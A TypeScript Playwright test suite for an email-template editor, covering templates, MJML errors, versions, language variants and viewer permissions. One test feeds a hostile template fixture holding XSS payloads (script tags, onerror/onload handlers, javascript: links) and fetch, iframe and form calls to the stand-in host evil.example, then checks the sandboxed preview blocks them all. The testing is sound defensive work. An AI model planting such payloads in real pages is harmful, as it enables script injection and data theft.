import type { Page } from 'playwright-core';
import { beforeAll, expect, test } from 'vitest';
import { eventually, type RunningApp, runApp } from '../support/app.ts';
import { importPeople } from '../support/newsletter.ts';
import { PASSWORD, testUser } from '../support/people.ts';
import { inBrowser, openPage, WIDE } from './browser.ts';
import { inspect } from './inspect.ts';
import { signInAt } from './pages.ts';

inBrowser('templates', () => {
  let app: RunningApp;
  let editor: string;

  beforeAll(async () => {
    app = await runApp();
    editor = (await testUser(app.db, { [app.tenant.tenantId]: 'editor' })).email;
    await importPeople(app.call, [
      person('ada.lindqvist@example.com', { firstName: 'Ada' }),
      person('bruno.marchetti@example.com', { firstName: 'Bruno' }),
    ]);
  });

  async function signedIn(path: string): Promise<Page> {
    const page = await openPage(app.url);
    await signInAt(page, editor, PASSWORD);
    await page.goto(`/app${path}`);
    return page;
  }

  test('from the library to a published version', async () => {
    const page = await signedIn('/templates');
    await page.getByText('No template yet').waitFor();
    await mailIn(page).getByText('The story that leads this issue').waitFor();
    await inspect(page, 'templates-library');
    await page.getByRole('button', { name: 'Use Letter' }).click();
    await page.getByRole('heading', { name: 'Letter' }).waitFor();

    await page.getByLabel('Subject').fill('A letter from Harbour Coffee, {{firstName}}');
    await insert(page, 'HTML', 'Dear ', '{{ roast }} is here, dear ');
    await page.getByText('Saved', { exact: true }).waitFor();
    await page.getByRole('button', { name: 'Declare roast' }).click();
    await page.getByLabel('Fallback of roast').fill('Our summer roast');
    await page.getByText('Saved', { exact: true }).waitFor();
    await mailIn(page).getByText('Our summer roast is here, dear there,').waitFor();

    await page.getByRole('combobox', { name: 'Shown with the data of' }).fill('bruno');
    await page.getByRole('option', { name: 'bruno.marchetti@example.com' }).click();
    await mailIn(page).getByText('is here, dear Bruno,').waitFor();
    await page.getByText('A letter from Harbour Coffee, Bruno').waitFor();
    await page.evaluate('scrollTo(0, 0)');
    await inspect(page, 'template-editor');

    await page.getByRole('switch', { name: 'Dark' }).click();
    const ink = () =>
      mailIn(page).locator('html').evaluate("getComputedStyle(document.querySelector('p')).color");
    expect(await eventually(ink, (colour) => colour === WHITE)).toBe(WHITE);
    await page.getByText('Plain text', { exact: true }).click();
    await page.locator('pre', { hasText: 'is here, dear Bruno,' }).waitFor();
    await page.getByRole('button', { name: 'Publish' }).click();
    await page.getByRole('button', { name: 'Edit as a new draft' }).waitFor();
    const { body } = await app.call('GET', new URL(page.url()).pathname.replace('/app', ''));
    expect(body).toMatchObject({ status: 'PUBLISHED', undeclaredVariables: [] });
    expect(body.publishedHtml).toContain('dear {{firstName}},');
  });

  test('MJML: made into HTML as one types; a fault names its line and is kept', async () => {
    const page = await signedIn('/templates/library');
    await page.getByRole('button', { name: 'MJML' }).click();
    await page.getByLabel('Name').fill('Autumn roasts');
    await page.getByRole('button', { name: 'Create' }).click();
    await page.getByRole('heading', { name: 'Autumn roasts' }).waitFor();
    await insert(page, 'MJML', 'Write what you have to say.', 'Three roasts, picked this week.');
    await mailIn(page).getByText('Three roasts, picked this week.').waitFor();
    await insert(page, 'MJML', '<mj-button', '<mj-buton');
    const alert = page.getByRole('alert').filter({ hasText: 'put this right' });
    await alert
      .getByRole('button', { name: /^Line \d+/ })
      .first()
      .click();
    await page.getByText('Not saved. Try again').waitFor();
    await inspect(page, 'template-mjml-fault');
    await page.getByRole('link', { name: 'All versions' }).click();
    await page.getByRole('button', { name: 'Stay here' }).click();
    await insert(page, 'MJML', '<mj-buton', '<mj-button');
    await page.getByText('Saved', { exact: true }).waitFor();
    expect(await alert.count()).toBe(0);
    const { body } = await app.call('GET', new URL(page.url()).pathname.replace('/app', ''));
    expect(body.mjmlBody).toContain('<mj-button href');
    expect(body.htmlBody).toContain('Three roasts, picked this week.');
  });

  test('versions: a language, a draft after the published one, what changed', async () => {
    const { body } = await app.call('POST', '/templates', NEWS);
    const [first] = body.versions;
    await app.call('POST', `/templates/${body.id}/versions/${first.id}/publish`);
    const page = await signedIn(`/templates/${body.id}`);
    await page.getByRole('button', { name: 'What can be done with version 1' }).click();
    await page.getByRole('menuitem', { name: 'Add a language…' }).click();
    await page.getByRole('combobox', { name: 'Language' }).click();
    await page.getByRole('option', { name: 'Spanish' }).click();
    await page.getByRole('button', { name: 'Add the language' }).click();
    await page.getByText('Version 2').waitFor();
    await page.getByLabel('Subject').fill('Novedades de septiembre');
    await page.getByText('Saved', { exact: true }).waitFor();
    await page.getByRole('link', { name: 'All versions' }).click();
    await page.getByRole('link', { name: 'Version 1' }).click();
    await page.getByRole('button', { name: 'Edit as a new draft' }).click();
    await page.getByText('Version 3').waitFor();
    await insert(page, 'HTML', 'The mill opens at nine.', 'The mill opens at eight.');
    await page.getByText('Saved', { exact: true }).waitFor();
    await page.getByRole('link', { name: 'All versions' }).click();
    await page.getByText('Novedades de septiembre').waitFor();
    await inspect(page, 'template');
    const { versions } = (await app.call('GET', `/templates/${body.id}`)).body;
    expect(versions.map((one: Summary) => [one.number, one.locale, one.localeGroupId])).toEqual([
      [3, null, null],
      [2, 'es', first.id],
      [1, null, null],
    ]);

    await page.goto(`/app/templates/${body.id}/compare?from=${first.id}&to=${versions[0].id}`);
    await page.locator('.cm-changedText', { hasText: 'eight' }).waitFor();
    await inspect(page, 'template-compare');

    await page.goto(`/app/templates/${body.id}`);
    await page.getByRole('button', { name: 'What can be done with version 3' }).click();
    await page.getByRole('menuitem', { name: 'Delete…' }).click();
    await page.getByRole('button', { name: 'Delete the draft' }).click();
    await page.getByRole('link', { name: 'Version 3' }).waitFor({ state: 'detached' });
    await page.getByRole('button', { name: 'Rename' }).click();
    await page.getByRole('textbox', { name: 'Name' }).fill('September news');
    await page.getByRole('dialog').getByRole('button', { name: 'Rename' }).click();
    await page.getByRole('heading', { name: 'September news' }).waitFor();
    await app.call('POST', '/library/welcome/clone', { name: 'Welcome to the harbour' });
    await page.goto('/app/templates?q=september');
    await page.getByRole('link', { name: 'September news' }).waitFor();
    expect(await page.getByRole('link', { name: 'Welcome to the harbour' }).count()).toBe(0);
    await page.getByLabel('Search templates').fill('');
    await page.getByRole('link', { name: 'Welcome to the harbour' }).waitFor();
    await inspect(page, 'templates');
  });

  test('a hostile template runs nothing in the preview and asks nobody (P34)', async () => {
    const { body } = await app.call('POST', '/templates', {
      ...{ name: '<img src=x onerror=alert(1)>', subject: '<script>alert(2)</script>' },
      htmlBody: HOSTILE,
    });
    const page = await openPage(app.url, WIDE, 'light', /sandboxed|Content Security Policy/);
    const asked: string[] = [];
    page.on('dialog', (dialog) => {
      asked.push(`dialog: ${dialog.message()}`);
      void dialog.dismiss();
    });
    page.context().on('page', () => asked.push('a window'));
    await page.route(/evil\.example/, (route) => {
      asked.push(route.request().url());
      return route.abort();
    });
    await signInAt(page, editor, PASSWORD);
    await page.goto(`/app/templates/${body.id}/versions/${body.versions[0].id}`);
    const mail = mailIn(page);
    await mail.getByText('Still here').waitFor();
    await page.getByText('Phone').click();
    for (const link of ['a script', 'elsewhere', 'the top', 'Send']) {
      await mail.getByText(link, { exact: true }).click();
    }
    await mail.getByText('Still here').waitFor();
    expect(asked).toEqual([]);
    expect(new URL(page.url()).pathname).toContain(body.id);
  });

  test('a viewer reads, and finds nothing that changes', async () => {
    const { body } = await app.call('POST', '/templates', { ...NEWS, name: 'Members only' });
    const viewer = await testUser(app.db, { [app.tenant.tenantId]: 'viewer' });
    const page = await openPage(app.url);
    await signInAt(page, viewer.email, PASSWORD);
    await page.goto(`/app/templates/${body.id}`);
    await page.getByRole('link', { name: 'Version 1' }).click();
    await mailIn(page).getByText('The mill opens at nine.').waitFor();
    expect(await page.getByRole('button', { name: /Publish|Declare|Remove|Add/ }).count()).toBe(0);
    expect(await page.getByLabel('Subject').getAttribute('readonly')).not.toBeNull();
  });

  function person(email: string, attributes: Record<string, unknown>) {
    return { email, externalId: email.split('@')[0], optIn: true, attributes };
  }
});

type Summary = { number: number; locale: string | null; localeGroupId: string | null };

const WHITE = 'rgb(255, 255, 255)';

const NEWS = {
  name: 'Harbour Coffee news',
  subject: 'News from the harbour, {{firstName}}',
  htmlBody: `<!doctype html>
<html lang="en">
<body style="font-family: Arial, sans-serif">
<h1>Good morning, {{firstName}}</h1>
<p>The new roast is here: plum, cocoa and a little smoke.</p>
<p>The mill opens at nine.</p>
<p>Come by, or order before Thursday.</p>
<p>{{postalAddress}}<br><a href="{{unsubscribeUrl}}">Unsubscribe</a></p>
</body>
</html>`,
  variables: [{ name: 'firstName', type: 'string', fallback: 'there' }],
};

const HOSTILE = `<!doctype html><html><head>
<meta http-equiv="refresh" content="0;url=https://evil.example/refresh">
<base href="https://evil.example/base/">
<link rel="stylesheet" href="https://evil.example/style.css">
<script>alert(3); parent.postMessage({ html: 'taken over' }, '*'); fetch('https://evil.example/fetch')</script>
<script src="https://evil.example/script.js"></script></head>
<body onload="alert(4)"><p>Still here</p>
<img src="x" onerror="alert(5)"><svg onload="alert(6)"></svg>
<iframe src="https://evil.example/frame"></iframe><object data="https://evil.example/object"></object>
<a href="javascript:alert(7)">a script</a> <a href="https://evil.example/link">elsewhere</a>
<a href="https://evil.example/top" target="_top">the top</a>
<form action="https://evil.example/form" method="post"><button>Send</button></form>
<p><a href="{{unsubscribeUrl}}">Unsubscribe</a></p></body></html>`;

/** The mail inside the preview, whose own frame is inside the frame with its policy. */
function mailIn(page: Page) {
  return page.frameLocator('iframe').first().frameLocator('iframe:not(.coming)');
}

/** Puts the caret behind a piece of the source and types; `text` replaces the piece. */
async function insert(page: Page, label: string, piece: string, text: string): Promise<void> {
  const source = page.getByRole('textbox', { name: label, exact: true });
  await source.click();
  await source.press('Control+f');
  await page.getByPlaceholder('Find').pressSequentially(piece);
  await page.getByPlaceholder('Find').press('Enter');
  await page.getByPlaceholder('Find').press('Escape');
  await page.keyboard.insertText(text);
}
